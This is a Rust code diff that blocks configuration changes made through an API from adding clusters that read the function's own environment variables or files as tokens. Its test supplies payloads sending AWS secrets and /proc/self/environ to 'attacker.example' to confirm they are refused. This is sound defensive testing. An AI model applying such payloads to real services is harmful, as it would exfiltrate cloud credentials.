@@ -2,12 +2,19 @@
 //! deployed configuration until an admin first changes it, and validated
 //! exactly like the file on every change. Every function reads it through
 //! [`FleetSource`], which re-parses only when the stored version moves.
+//!
+//! A cluster reached by a local token source (`tokenFrom: {env}` or
+//! `{file}`) or a local kubeconfig context names the function's own
+//! environment or files: only the operator's deployed configuration may
+//! give one. A change through the API may keep such a cluster exactly as
+//! deployed, never add or alter one; otherwise an API admin could send the
+//! function's own credentials to a server of their choosing.
 
 use std::sync::{Arc, Mutex, PoisonError};
 
 use serde_json::Value;
 
-use crate::config::{ConfigError, FleetConfig};
+use crate::config::{Cluster, ClusterAccess, ConfigError, FleetConfig, Problem, TokenSource};
 use crate::store::{Condition, Item, ItemKey, Store, StoreError};
 
 const PK: &str = "CONFIG";
@@ -69,6 +76,13 @@ impl FleetSource {
         Ok(Self::new(store, document, config))
     }
 
+    /// The clusters of the deployed configuration reached through local
+    /// token sources or contexts: the only ones a connector may reach that
+    /// way (see the module's doc).
+    pub fn deployed_local_clusters(&self) -> Vec<Cluster> {
+        local_secret_clusters(&self.seed.config)
+    }
+
     /// The configuration now in force: one read of the stored item.
     pub async fn current(&self) -> Result<Arc<FleetConfig>, FleetError> {
         Ok(self.read().await?.config)
@@ -104,6 +118,7 @@ impl FleetSource {
             change(&mut document)?;
             let config = FleetConfig::from_document(&document, "configuration")
                 .map_err(FleetError::Invalid)?;
+            self.only_deployed_local_clusters(&config)?;
             let condition = match current.version {
                 0 => Condition::IfAbsent,
                 version => Condition::IfVersion(version),
@@ -120,6 +135,56 @@ impl FleetSource {
             }
         }
         Err(FleetError::Contended)
+    }
+}
+
+impl FleetSource {
+    fn only_deployed_local_clusters(&self, config: &FleetConfig) -> Result<(), FleetError> {
+        let deployed = self.deployed_local_clusters();
+        let mut problems = Vec::new();
+        for (i, environment) in config.environments.iter().enumerate() {
+            for (j, cluster) in environment.clusters.iter().enumerate() {
+                if uses_local_secrets(cluster) && !deployed.contains(cluster) {
+                    let key = match cluster.access {
+                        ClusterAccess::Kubeconfig { .. } => "kubeconfigContext",
+                        _ => "tokenFrom",
+                    };
+                    problems.push(Problem {
+                        key: format!("environments[{i}].clusters[{j}].{key}"),
+                        message: "a token from the function's own variables or files is only \
+                                  taken from the deployed configuration; a change through the \
+                                  API may keep such a cluster as deployed but not add or alter \
+                                  one: give {secret: release-dashboard/clusters/NAME} instead"
+                            .into(),
+                    });
+                }
+            }
+        }
+        if problems.is_empty() {
+            return Ok(());
+        }
+        Err(FleetError::Invalid(ConfigError::Invalid { origin: "configuration".into(), problems }))
+    }
+}
+
+/// The clusters of `config` whose access reads the function's own
+/// environment or files.
+pub fn local_secret_clusters(config: &FleetConfig) -> Vec<Cluster> {
+    config
+        .environments
+        .iter()
+        .flat_map(|e| e.clusters.iter())
+        .filter(|c| uses_local_secrets(c))
+        .cloned()
+        .collect()
+}
+
+/// Whether reaching `cluster` reads the function's own environment or files.
+pub fn uses_local_secrets(cluster: &Cluster) -> bool {
+    match &cluster.access {
+        ClusterAccess::Direct { token_from, .. } => !matches!(token_from, TokenSource::Secret(_)),
+        ClusterAccess::Kubeconfig { .. } => true,
+        ClusterAccess::Eks { .. } => false,
     }
 }
 
@@ -181,7 +246,7 @@ dashboards:
         let dev = updated.environment("dev").unwrap();
         assert_eq!(dev.refresh_interval.as_secs(), 300);
         assert!(
-            matches!(&dev.clusters[0].access, crate::config::ClusterAccess::Eks { region, .. } if region.as_str() == "eu-west-1"),
+            matches!(&dev.clusters[0].access, ClusterAccess::Eks { region, .. } if region.as_str() == "eu-west-1"),
             "defaults apply to environments added later"
         );
 
@@ -205,6 +270,45 @@ dashboards:
         assert!(err.to_string().contains("refreshInterval"), "{err}");
         assert!(store.get(&key()).await.unwrap().is_none(), "nothing stored");
         assert_eq!(source.current().await.unwrap().environments.len(), 2);
+    }
+
+    #[tokio::test]
+    async fn a_change_keeps_deployed_local_token_sources_but_adds_or_alters_none() {
+        const CA: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==";
+        let seed = format!(
+            "
+defaults: {{region: eu-west-1}}
+environments:
+  - name: onprem
+    clusters:
+      - {{name: op-a, endpoint: https://k8s.internal:6443, caData: {CA}, tokenFrom: {{env: OP_TOKEN}}}}
+  - {{name: stg, clusters: [{{name: stg-a}}]}}
+"
+        );
+        let store: Arc<dyn Store> = Arc::new(MemoryStore::default());
+        let source = FleetSource::from_text(store.clone(), &seed).unwrap();
+        assert_eq!(source.deployed_local_clusters().len(), 1);
+        let eks = json!({"name": "qa", "clusters": [{"name": "qa-a"}]});
+        source
+            .update(|doc| put_environment(doc, eks.clone()))
+            .await
+            .expect("the deployed one is kept");
+
+        let sends = [
+            json!({"name": "evil", "clusters": [{"name": "x", "endpoint": "https://attacker.example", "caData": CA, "tokenFrom": {"env": "AWS_SECRET_ACCESS_KEY"}}]}),
+            json!({"name": "evil", "clusters": [{"name": "x", "endpoint": "https://attacker.example", "caData": CA, "tokenFrom": {"file": "/proc/self/environ"}}]}),
+            json!({"name": "onprem", "clusters": [{"name": "op-a", "endpoint": "https://attacker.example", "caData": CA, "tokenFrom": {"env": "OP_TOKEN"}}]}),
+            json!({"name": "onprem", "clusters": [{"name": "op-a", "endpoint": "https://k8s.internal:6443", "caData": CA, "tokenFrom": {"env": "AWS_SESSION_TOKEN"}}]}),
+        ];
+        for change in sends {
+            let err = source.update(|doc| put_environment(doc, change.clone())).await.unwrap_err();
+            let FleetError::Invalid(invalid) = &err else { panic!("{err:?}") };
+            assert!(invalid.to_string().contains(".clusters[0].tokenFrom: "), "{invalid}");
+            assert!(!invalid.to_string().contains("AWS_"), "the refusal echoes no name: {invalid}");
+        }
+        let config = source.current().await.unwrap();
+        assert!(config.environment("evil").is_none());
+        assert_eq!(config.environments.len(), 3, "nothing more was stored");
     }
 
     #[tokio::test]
